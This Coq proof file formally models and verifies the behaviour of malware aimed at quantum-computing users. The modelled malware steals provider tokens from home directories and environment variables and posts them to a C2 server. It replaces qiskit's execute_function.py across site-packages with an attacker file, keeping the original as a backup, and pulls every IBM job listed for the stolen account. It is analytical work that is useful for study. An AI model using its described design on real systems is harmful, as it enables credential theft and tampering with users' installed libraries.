End c2_requests.

Lemma stealer_run_messages_witness :
  @token_stealer.run ascii_codec host_alice =
    (Ret (), set_sent (sent host_alice
                       ++ @directory_messages ascii_codec (fs host_alice) "/home" ["alice"]
                       ++ environment_messages (environ host_alice)) host_alice).
Proof.
  apply (@stealer_run_messages ascii_codec host_alice ["alice"]).
  - reflexivity.
  - intros user entry ->%list_elem_of_singleton Hentry.
    apply elem_of_cons in Hentry as [-> | Hentry]; [right; by eexists|].
    apply list_elem_of_singleton in Hentry as ->. by left.
Defined.

Lemma stealer_fails_on_other_systems_witness :
  @token_stealer.run ascii_codec host_other_system = (Raise FileNotFoundError, host_other_system).
Proof.
  apply (@stealer_fails_on_other_systems ascii_codec host_other_system);
    [discriminate | discriminate | reflexivity].
Defined.

Lemma only_token_posts_reach_a_provider_witness :
  @quantum_c2.do_POST ascii_codec post_unknown_path [] = (Ret (), [] ++ ack).
Proof.
  apply (proj1 (@only_token_posts_reach_a_provider ascii_codec post_unknown_path []
                  "9" 9 "not json!" eq_refl eq_refl eq_refl ltac:(discriminate))).
  discriminate.
Defined.

(** ** [_add_patch]: every location below a root *)

Lemma last_char_app a b : b ≠ "" → last_char (a +:+ b) = last_char b.
Proof.
  intros Hb. induction a as [|c a IH]; [done|].
  rewrite app_cons. cbn. rewrite IH.
  destruct (a +:+ b) eqn:E; [|done].
  destruct a; [by rewrite app_empty_l in E | by rewrite app_cons in E].
Qed.

Lemma app_inv_tail_string (a1 a2 t : string) : a1 +:+ t = a2 +:+ t → a1 = a2.
Proof.
  revert a2. induction a1 as [|c a1 IH]; intros a2 H.
  - destruct a2 as [|c2 a2]; [done|].
    apply (f_equal String.length) in H. rewrite app_empty_l, app_cons in H.
    cbn [String.length] in H. rewrite length_app_string in H. lia.
  - destruct a2 as [|c2 a2].
    + apply (f_equal String.length) in H. rewrite app_empty_l, app_cons in H.
      cbn [String.length] in H. rewrite length_app_string in H. lia.
    + rewrite !app_cons in H. injection H as -> H. by rewrite (IH a2 H).
Qed.

Lemma endswith_sep_app a b : b ≠ "" → endswith_sep (a +:+ b) = endswith_sep b.
Proof.
  intros Hb. induction a as [|c a IH]; [done|].
  rewrite app_cons. cbn. rewrite IH.
  destruct (a +:+ b) eqn:E; [|done].
  destruct a; [by rewrite app_empty_l in E | by rewrite app_cons in E].
Qed.

Lemma join_qiskit a : is_location (join a "qiskit").
Proof.
  unfold join. cbn. destruct (bool_decide (a = "") || endswith_sep a).
  - by exists a.
  - exists (a +:+ "/"). by rewrite app_assoc_string.
Qed.

Lemma location_join loc name :
  is_location loc → startswith_sep name = false → join loc name = loc +:+ "/" +:+ name.
Proof.
  intros [q ->] Hn. unfold join. rewrite Hn.
  rewrite endswith_sep_app by done. rewrite bool_decide_false; [done|].
  intros H. apply (f_equal String.length) in H. rewrite length_app_string in H.
  cbn in H. lia.
Qed.

(** The files of two different locations are four different paths. *)
Lemma locations_apart x loc :
  is_location x → is_location loc → x ≠ loc →
  join x "execute_function.py" ≠ join loc "execute_function.py" ∧
  join x "execute_function.py" ≠ join loc "execute_function.py.org" ∧
  join x "execute_function.py.org" ≠ join loc "execute_function.py" ∧
  join x "execute_function.py.org" ≠ join loc "execute_function.py.org".
Proof.
  intros Hx Hloc Hne.
  rewrite !(location_join x), !(location_join loc) by done.
  split_and!; intros H.
  - by apply app_inv_tail_string in H.
  - apply (f_equal last_char) in H. by rewrite !last_char_app in H.
  - apply (f_equal last_char) in H. by rewrite !last_char_app in H.
  - by apply app_inv_tail_string in H.
Qed.

(** One call, when the replacement is at hand. *)
Lemma patch_qiskit_patch_fs w loc pl :
  fs w !! join (cwd w) "execute_function.py" = Some (File pl) →
  join (cwd w) "execute_function.py" ≠ join loc "execute_function.py" →
  join (cwd w) "execute_function.py" ≠ join loc "execute_function.py.org" →
  _patch_qiskit loc false w = (Ret (), set_fs (patch_fs pl (fs w) loc) w).
Proof.
  intros Hp Hpo Hpb. pose proof (original_ne_backup loc) as Hob. unfold patch_fs.
  destruct (fs w !! join loc "execute_function.py") as [[c|]|] eqn:Ho.
  - destruct (fs w !! join loc "execute_function.py.org") as [[b|]|] eqn:Hb.
    + rewrite set_fs_id. apply patch_already_patched. by apply (isfile_File _ _ b).
    + rewrite set_fs_id. unfold _patch_qiskit. py_unfold.
      rewrite (isfile_File _ _ _ Ho). cbn. unfold isfile at 1. rewrite Hb. cbn.
      unfold rename. rewrite Ho, Hb. cbn. by rewrite set_fs_id.
    + rewrite (patch_unpatched w loc c pl) by done. f_equal. f_equal.
      apply map_eq. intros k.
      destruct (decide (k = join loc "execute_function.py")) as [->|];
        [by simplify_map_eq|].
      destruct (decide (k = join loc "execute_function.py.org")) as [->|];
        by simplify_map_eq.
  - rewrite set_fs_id. apply patch_no_qiskit. unfold isfile. by rewrite Ho.
  - rewrite set_fs_id. apply patch_no_qiskit. by apply isfile_None.
Qed.

Lemma patch_fs_other pl f loc p :
  p ≠ join loc "execute_function.py" → p ≠ join loc "execute_function.py.org" →
  patch_fs pl f loc !! p = f !! p.
Proof. intros. unfold patch_fs. repeat case_match; by simplify_map_eq. Qed.

(** The loop over the locations, when the replacement is at hand and is
    none of their files. *)
Lemma patch_loop_patch_fs locs pl : ∀ w,
  fs w !! join (cwd w) "execute_function.py" = Some (File pl) →
  (∀ loc, loc ∈ locs →
     join (cwd w) "execute_function.py" ≠ join loc "execute_function.py" ∧
     join (cwd w) "execute_function.py" ≠ join loc "execute_function.py.org") →
  for_each locs (λ p, _patch_qiskit p false) w =
    (Ret (), set_fs (foldl (patch_fs pl) (fs w) locs) w).
Proof.
  induction locs as [|loc locs IH]; intros w Hp Hne.
  - cbn. by rewrite set_fs_id.
  - destruct (Hne loc (list_elem_of_here _ _)) as [Hpo Hpb].
    cbn [for_each foldl].
    rewrite (bind_ret _ _ _ _ _ (patch_qiskit_patch_fs w loc pl Hp Hpo Hpb)).
    rewrite IH; [done| |].
    + cbn. by rewrite patch_fs_other.
    + intros l Hl. apply Hne. by apply list_elem_of_further.
Qed.

Lemma foldl_patch_fs_other pl locs p : ∀ f,
  (∀ loc, loc ∈ locs →
     p ≠ join loc "execute_function.py" ∧ p ≠ join loc "execute_function.py.org") →
  foldl (patch_fs pl) f locs !! p = f !! p.
Proof.
  induction locs as [|loc locs IH]; intros f H; [done|]. cbn.
  destruct (H loc (list_elem_of_here _ _)) as [H1 H2].
  rewrite IH by (intros l Hl; apply H; by apply list_elem_of_further).
  by apply patch_fs_other.
Qed.

(** A patched location stays patched. *)
Lemma foldl_patch_fs_patched pl locs loc a c : ∀ f,
  Forall is_location locs → is_location loc →
  f !! join loc "execute_function.py" = Some (File a) →
  f !! join loc "execute_function.py.org" = Some (File c) →
  foldl (patch_fs pl) f locs !! join loc "execute_function.py" = Some (File a) ∧
  foldl (patch_fs pl) f locs !! join loc "execute_function.py.org" = Some (File c).
Proof.
  intros f Hlocs Hloc. revert f.
  induction Hlocs as [|x locs Hx _ IH]; intros f Ho Hb; [done|]. cbn.
  destruct (decide (x = loc)) as [-> | Hne].
  - apply IH; unfold patch_fs; by rewrite Ho, Hb.
  - destruct (locations_apart x loc Hx Hloc Hne) as (H1 & H2 & H3 & H4).
    apply IH; by rewrite patch_fs_other.
Qed.

Lemma foldl_patch_fs_unpatched pl locs loc c : ∀ f,
  Forall is_location locs → loc ∈ locs →
  f !! join loc "execute_function.py" = Some (File c) →
  f !! join loc "execute_function.py.org" = None →
  foldl (patch_fs pl) f locs !! join loc "execute_function.py" = Some (File pl) ∧
  foldl (patch_fs pl) f locs !! join loc "execute_function.py.org" = Some (File c).
Proof.
  intros f Hlocs. revert f.
  induction Hlocs as [|x locs Hx Hlocs IH]; intros f Hin Ho Hb;
    [by apply elem_of_nil in Hin|].
  pose proof (original_ne_backup loc) as Hob. cbn.
  destruct (decide (x = loc)) as [-> | Hne].
  - apply foldl_patch_fs_patched; [done..| |]; unfold patch_fs; rewrite Ho, Hb;
      by simplify_map_eq.
  - apply elem_of_cons in Hin as [-> | Hin]; [done|].
    assert (is_location loc) as Hloc by (by eapply Forall_forall in Hlocs).
    destruct (locations_apart x loc Hx Hloc Hne) as (H1 & H2 & H3 & H4).
    apply IH; [done|..]; by rewrite patch_fs_other.
Qed.

(** [_site_package] looks at the file system only. *)
Lemma climb_fs_only fuel : ∀ path w w',
  fs w' = fs w → climb_to_lib fuel path w' = ((climb_to_lib fuel path w).1, w').
Proof.
  induction fuel as [|fuel IH]; intros path w w' Hfs; [done|].
  cbn. py_unfold. rewrite Hfs.
  destruct (exists_ (fs w) (join path "lib")); cbn; [done|]. by apply IH.
Qed.

Lemma site_package_fs_only path w w' :
  fs w' = fs w → _site_package path w' = ((_site_package path w).1, w').
Proof.
  intros Hfs. unfold _site_package. unfold mbind at 1 3, M_bind at 1 3.
  rewrite (climb_fs_only _ path w w' Hfs).
  destruct (climb_outcome w (S (String.length path)) path) as [(a & -> & _) | ->]; [|done].
  cbn. py_unfold. rewrite Hfs.
  destruct (listdir (join a "lib") (fs w)) as [[entries|e|] f] eqn:El; cbn;
    unfold listdir in El; destruct (fs w !! join a "lib") as [[|]|];
    try done; injection El as <-; subst; by rewrite <- Hfs, set_fs_id.
Qed.

Lemma site_package_locations path w locs w' :
  _site_package path w = (Ret locs, w') → Forall is_location locs.
Proof.
  unfold _site_package. unfold mbind at 1, M_bind at 1.
  destruct (climb_to_lib _ path w) as [[a|e|] w1]; [|done..].
  unfold mbind, M_bind. destruct (on_fs (listdir (join a "lib")) w1) as [[entries|e|] w2]; [|done..].
  intros [= <- _]. constructor; [apply join_qiskit|].
  apply Forall_forall. intros loc (d & -> & _)%list_elem_of_fmap. apply join_qiskit.
Qed.

(** X8: [_add_patch] patches every qiskit installation it can
    reach.  The path is not on the record, its candidate locations are
    [locs], and the replacement [<cwd>/execute_function.py] is a regular
    file that is none of their files.  Then the call returns with the
    path recorded; at every candidate location whose target is a regular
    file without a backup, the target now holds the replacement and the
    backup holds what the target held; and every path that is not a file
    of a candidate location is as it was. *)
Theorem add_patch_patches_every_location path w locs pl :
  path ∉ _m_data w →
  _site_package path w = (Ret locs, w) →
  fs w !! join (cwd w) "execute_function.py" = Some (File pl) →
  (∀ loc, loc ∈ locs →
     join (cwd w) "execute_function.py" ≠ join loc "execute_function.py" ∧
     join (cwd w) "execute_function.py" ≠ join loc "execute_function.py.org") →
  ∃ w', _add_patch path w = (Ret (), w') ∧
        _m_data w' = _m_data w ++ [path] ∧
        (∀ loc c, loc ∈ locs →
           fs w !! join loc "execute_function.py" = Some (File c) →
           fs w !! join loc "execute_function.py.org" = None →
           fs w' !! join loc "execute_function.py" = Some (File pl) ∧
           fs w' !! join loc "execute_function.py.org" = Some (File c)) ∧
        (∀ p, (∀ loc, loc ∈ locs →
                 p ≠ join loc "execute_function.py" ∧
                 p ≠ join loc "execute_function.py.org") →
              fs w' !! p = fs w !! p).
Proof.
  intros Hnin Hsite Hp Hne.
  pose proof (site_package_locations _ _ _ _ Hsite) as Hlocs.
  set (w1 := set_m_data (_m_data w ++ [path]) w).
  assert (_site_package path w1 = (Ret locs, w1)) as Hsite1.
  { rewrite (site_package_fs_only path w w1 eq_refl). by rewrite Hsite. }
  assert (_add_patch path w =
          (Ret (), set_fs (foldl (patch_fs pl) (fs w) locs) w1)) as Hadd.
  { unfold _add_patch. unfold mbind at 1, M_bind at 1, gets.
    rewrite bool_decide_false by done.
    unfold mbind at 1, M_bind at 1, modify. fold w1.
    rewrite (bind_ret _ _ _ _ _ Hsite1).
    by apply (patch_loop_patch_fs locs pl w1). }
  eexists. split; [exact Hadd|]. split_and!; [done| |].
  - intros loc c Hloc Ho Hb. cbn. by apply foldl_patch_fs_unpatched.
  - intros p Hother. cbn. by apply foldl_patch_fs_other.
Qed.

Lemma add_patch_patches_every_location_witness :
  ∃ w', _add_patch "/venv" unpatched_host = (Ret (), w') ∧
        _m_data w' = _m_data unpatched_host ++ ["/venv"] ∧
        (∀ loc c, loc ∈ ["/venv/lib/site-packages/qiskit";
                         "/venv/lib/python3/site-packages/qiskit"] →
           fs unpatched_host !! join loc "execute_function.py" = Some (File c) →
           fs unpatched_host !! join loc "execute_function.py.org" = None →
           fs w' !! join loc "execute_function.py" = Some (File "attacker") ∧
           fs w' !! join loc "execute_function.py.org" = Some (File c)) ∧
        (∀ p, (∀ loc, loc ∈ ["/venv/lib/site-packages/qiskit";
                             "/venv/lib/python3/site-packages/qiskit"] →
                 p ≠ join loc "execute_function.py" ∧
                 p ≠ join loc "execute_function.py.org") →
              fs w' !! p = fs unpatched_host !! p).
Proof.
  apply (add_patch_patches_every_location "/venv" unpatched_host
           ["/venv/lib/site-packages/qiskit"; "/venv/lib/python3/site-packages/qiskit"]
           "attacker").
  - simpl. apply not_elem_of_nil.
  - reflexivity.
  - reflexivity.
  - intros loc Hloc.
    apply elem_of_cons in Hloc as [-> | Hloc]; [split; discriminate|].
    apply list_elem_of_singleton in Hloc as ->. split; discriminate.
Defined.

(** ** [C2Server._jobs_ibm]: the set that never filters *)

Lemma draw_loop srv id t :
  for_each (ibm.circuits srv id) (λ circuit, ibm.emit (ibm.draw circuit)) t =
    (Ret (), t ++ map ibm.draw (ibm.circuits srv id)).
Proof.
  generalize (ibm.circuits srv id). intros l. revert t.
  induction l as [|c l IH]; intros t; cbn.
  - by rewrite app_nil_r.
  - unfold mbind, M_bind, ibm.emit, modify. rewrite IH. by rewrite <- app_assoc.
Qed.

(** The set holds bound methods only, and the test looks for a string. *)
Lemma job_loop_retrieves_all srv jobs : ∀ queried_jobs t,
  Forall (λ x, ∃ self attribute, x = ibm.py_bound_method self attribute) queried_jobs →
  ibm.job_loop srv jobs queried_jobs t =
    (Ret (), t ++ flat_map (λ job, ibm.retrieve_job (ibm.job_id job) ::
                                   map ibm.draw (ibm.circuits srv (ibm.job_id job))) jobs).
Proof.
  induction jobs as [|job rest IH]; intros queried_jobs t Hset; cbn.
  - by rewrite app_nil_r.
  - rewrite bool_decide_false.
    2:{ intros Hin. eapply Forall_forall in Hset as (self & attribute & Heq); [|exact Hin].
        discriminate. }
    unfold mbind at 1, M_bind at 1, ibm.emit at 1, modify.
    rewrite (bind_ret _ _ _ _ _ (draw_loop srv _ _)).
    rewrite IH.
    + by rewrite <- !app_assoc.
    + unfold ibm.set_add. case_bool_decide; [done|]. constructor; [|done]. eauto.
Qed.

(** X25: the set [queried_jobs] of [_jobs_ibm] never filters
    anything.  The routine adds the bound method [job.job_id] to the set
    and looks the string [job.job_id()] up in it, so the test never
    succeeds: after asking for the job list, the routine retrieves every
    listed job, in order, and draws each of its circuits; a job listed
    twice is retrieved twice. *)
Theorem jobs_ibm_retrieves_every_listed_job srv token t :
  ibm._jobs_ibm srv token t =
    (Ret (), t ++ ibm.provider_jobs token ::
                  flat_map (λ job, ibm.retrieve_job (ibm.job_id job) ::
                                   map ibm.draw (ibm.circuits srv (ibm.job_id job)))
                           (ibm.jobs srv token)).
Proof.
  unfold ibm._jobs_ibm. unfold mbind, M_bind, ibm.emit at 1, modify.
  rewrite job_loop_retrieves_all by constructor.
  by rewrite <- app_assoc.
Qed.

(** On an account that lists one job twice. *)
Lemma jobs_ibm_on_a_repeated_job :
  ibm._jobs_ibm ibm_account (JStr "t") [] =
    (Ret (), [ ibm.provider_jobs (JStr "t");
               ibm.retrieve_job "job-a"; ibm.draw "bell";
               ibm.retrieve_job "job-b";
               ibm.retrieve_job "job-a"; ibm.draw "bell" ]).
Proof. reflexivity. Qed.

(** ** The daemon, from the first message to the last *)

Section daemon_posts.
Context `{codec : Codec}.

Lemma guarded_posts Q w0 (body : M world ()) w :
  only_posts Q w0 (body w).2 → only_posts Q w0 (guarded body w).2.
Proof.
  intros Hb. change (guarded body w) with (guarded (λ _, body w) (body w).2).
  apply (preserves_try_finally (only_posts Q w0)); [|apply restore_state_sent|exact Hb].
  apply preserves_try_except; [by intros s _ | intros; apply preserves_ret].
Qed.

Lemma stealer_then_patcher_posts self backup w :
  ∃ tokens, Forall is_token_post tokens ∧
    only_posts is_circuit_post (set_sent (sent w ++ tokens) w)
      ((token_stealer.run ;; patcher.run self backup) w).2.
Proof.
  destruct (stealer_run_posts w w (only_posts_and_reads_refl _ _)) as (tokens & Hw1 & Htok).
  exists tokens. split; [done|]. unfold mbind, M_bind.
  destruct (token_stealer.run w) as [[[]|e|] w1]; cbn in Hw1; subst w1;
    [|apply only_posts_refl..].
  apply patcher_run_posts, only_posts_refl.
Qed.

(** X20: what the whole script posts.  Whatever the machine and
    however the script ends, the messages it has added to those posted
    before are first [/token] messages, for IBM, QI or IonQ, and then
    [/circuit] messages: no token is posted once the patch loop has
    started, and the cleanup posts nothing. *)
Theorem daemon_posts_tokens_then_circuits backup w :
  ∃ tokens circuits,
    sent (quantum_daemon.main backup w).2 = sent w ++ tokens ++ circuits ∧
    Forall is_token_post tokens ∧ Forall is_circuit_post circuits.
Proof.
  assert (∀ self, ∃ tokens circuits,
    sent (guarded (token_stealer.run ;; patcher.run self backup) w).2 =
      sent w ++ tokens ++ circuits ∧
    Forall is_token_post tokens ∧ Forall is_circuit_post circuits) as Hg.
  { intros self.
    destruct (stealer_then_patcher_posts self backup w) as (tokens & Htok & Hbody).
    apply guarded_posts in Hbody as (circuits & Hs & Hcirc).
    exists tokens, circuits. simpl (sent (set_sent _ _)) in Hs.
    by rewrite Hs, app_assoc. }
  unfold quantum_daemon.main, gets. unfold mbind at 1, M_bind at 1.
  case_bool_decide; [|case_bool_decide].
  - destruct (Hg Linux) as (tokens & circuits & Hs & ? & ?).
    exists tokens, circuits. split; [|done]. unfold mbind, M_bind.
    by destruct (guarded _ w) as [[[]|e|] w1].
  - destruct (Hg Windows) as (tokens & circuits & Hs & ? & ?).
    exists tokens, circuits. split; [|done]. unfold mbind, M_bind.
    by destruct (guarded _ w) as [[[]|e|] w1].
  - exists [], []. by rewrite !app_nil_r.
Qed.
End daemon_posts.

(** ** The replacement file *)

Lemma prefix_app_self (a b : string) : String.prefix a (a +:+ b) = true.
Proof.
  induction a as [|c a IH]; [by destruct b|].
  rewrite app_cons. cbn. by destruct (ascii_dec c c).
Qed.

Lemma prefix_true_app (a s : string) : String.prefix a s = true → ∃ rest, s = a +:+ rest.
Proof.
  revert s. induction a as [|c a IH]; intros s; [by exists s|].
  destruct s as [|d s]; [done|]. cbn.
  destruct (ascii_dec c d) as [->|]; [|done].
  intros (rest & ->)%IH. by exists rest.
Qed.

Lemma percent_free_app a b : percent_free (a +:+ b) = percent_free a && percent_free b.
Proof.
  induction a as [|c a IH]; [done|]. rewrite app_cons. cbn. rewrite IH.
  by rewrite andb_assoc.
Qed.

(** Passing the rest of an occurrence. *)
Lemma replace_from_skip old new (x s : string) :
  template.replace_from (String.length x) old new (x +:+ s) = template.replace_from 0 old new s.
Proof. induction x as [|c x IH]; [done|]. rewrite app_cons. cbn. apply IH. Qed.

(** Text without a percent sign holds no placeholder. *)
Lemma replace_from_percent_free old' new pre s :
  percent_free pre = true →
  template.replace_from 0 (String "%" old') new (pre +:+ s) =
    pre +:+ template.replace_from 0 (String "%" old') new s.
Proof.
  induction pre as [|c pre IH]; [done|]. cbn [percent_free].
  intros [Hc Hpre]%andb_true_iff.
  destruct (bool_decide (c = "%"%char)) eqn:E; [done|]. apply bool_decide_eq_false_1 in E.
  rewrite !app_cons. cbn [template.replace_from String.prefix].
  destruct (ascii_dec "%" c) as [<-|]; [done|]. by rewrite IH.
Qed.

Lemma replace_from_occurrence old' new s :
  template.replace_from 0 (String "%" old') new (String "%" old' +:+ s) =
    new +:+ template.replace_from 0 (String "%" old') new s.
Proof.
  rewrite app_cons. cbn [template.replace_from].
  rewrite <- app_cons, prefix_app_self.
  replace (String.length (String "%" old') - 1) with (String.length old') by (cbn; lia).
  by rewrite replace_from_skip.
Qed.

Lemma replace_from_nothing old' new s :
  percent_free s = true → template.replace_from 0 (String "%" old') new s = s.
Proof.
  intros Hs. rewrite <- (app_empty_r s) at 1.
  rewrite replace_from_percent_free by done. by rewrite app_empty_r.
Qed.

Lemma prefix_cons_ne a old' c r : a ≠ c → String.prefix (String a old') (String c r) = false.
Proof. intros Hne. cbn [String.prefix]. by destruct (ascii_dec a c). Qed.

Lemma prefix_cons_eq a old' r :
  String.prefix (String a old') (String a r) = String.prefix old' r.
Proof. cbn [String.prefix]. by destruct (ascii_dec a a). Qed.

Lemma replace_from_no_match old new c r :
  String.prefix old (String c r) = false →
  template.replace_from 0 old new (String c r) = String c (template.replace_from 0 old new r).
Proof. intros H. cbn [template.replace_from]. by rewrite H. Qed.

(** A placeholder needs its closing percent sign. *)
Lemma prefix_needs_percent (name s : string) :
  percent_free s = true → String.prefix (name +:+ "%") s = false.
Proof.
  intros Hs. destruct (String.prefix (name +:+ "%") s) eqn:Hpre; [|done].
  apply prefix_true_app in Hpre as (rest & ->).
  rewrite !percent_free_app in Hs. apply andb_true_iff in Hs as [Hs _].
  by apply andb_true_iff in Hs as [_ Hs].
Qed.

(** The first placeholder does not start at the second one, nor at its
    closing percent sign when the text behind it has none. *)
Lemma replace_backup_passes_attacker new s :
  percent_free s = true →
  template.replace_from 0 "%backup_circuit_dir%" new ("%attacker_circuit_dir%" +:+ s) =
    "%attacker_circuit_dir%" +:+ s.
Proof.
  intros Hs.
  assert ("%attacker_circuit_dir%" +:+ s =
          String "%" (String "a" ("ttacker_circuit_dir" +:+ String "%" s))) as ->
    by (rewrite !app_cons; do 2 f_equal; by rewrite <- !app_cons, app_assoc_string).
  rewrite replace_from_no_match.
  2:{ rewrite prefix_cons_eq. by apply prefix_cons_ne. }
  f_equal.
  rewrite <- app_cons.
  rewrite (replace_from_percent_free _ new "attacker_circuit_dir") by done. f_equal.
  rewrite replace_from_no_match.
  2:{ rewrite prefix_cons_eq. by apply (prefix_needs_percent "backup_circuit_dir"). }
  by rewrite replace_from_nothing.
Qed.

(** X26: the substitution of the two directories.  In a template
    that names the backup directory once and the attacker's directory
    once behind it, and has no other percent sign, the script puts the
    backup directory and the attacker's directory, each as a raw string
    literal, in the place of their placeholders and keeps the rest of
    the text, provided the backup directory has no percent sign in its
    name.  (The attacker's directory goes in last and may be any
    string.) *)
Theorem instantiate_substitutes pre mid post backup attacker_circuits :
  percent_free pre = true → percent_free mid = true → percent_free post = true →
  percent_free backup = true →
  template.instantiate
    (pre +:+ "%backup_circuit_dir%" +:+ mid +:+ "%attacker_circuit_dir%" +:+ post)
    backup attacker_circuits =
  pre +:+ template.raw_literal backup +:+ mid
      +:+ template.raw_literal attacker_circuits +:+ post.
Proof.
  intros Hpre Hmid Hpost Hb.
  unfold template.instantiate, template.replace. rewrite !bool_decide_false by done.
  rewrite (replace_from_percent_free _ _ pre) by done.
  rewrite replace_from_occurrence.
  rewrite (replace_from_percent_free _ _ mid) by done.
  rewrite replace_backup_passes_attacker by done.
  assert (percent_free (template.raw_literal backup) = true) as Hraw.
  { unfold template.raw_literal. rewrite !percent_free_app, Hb. done. }
  rewrite (replace_from_percent_free _ _ pre) by done. f_equal.
  rewrite (replace_from_percent_free _ _ (template.raw_literal backup)) by done. f_equal.
  rewrite (replace_from_percent_free _ _ mid) by done. f_equal.
  rewrite replace_from_occurrence. f_equal.
  by apply replace_from_nothing.
Qed.

Lemma instantiate_substitutes_witness :
  template.instantiate
    ("BACKUP = " +:+ "%backup_circuit_dir%" +:+ "; ATTACKER = "
       +:+ "%attacker_circuit_dir%" +:+ ";")
    "/atk/bk-circuits" "/atk/attacker-circuits" =
  "BACKUP = " +:+ template.raw_literal "/atk/bk-circuits" +:+ "; ATTACKER = "
     +:+ template.raw_literal "/atk/attacker-circuits" +:+ ";".
Proof.
  apply (instantiate_substitutes "BACKUP = " "; ATTACKER = " ";"
           "/atk/bk-circuits" "/atk/attacker-circuits"); reflexivity.
Defined.
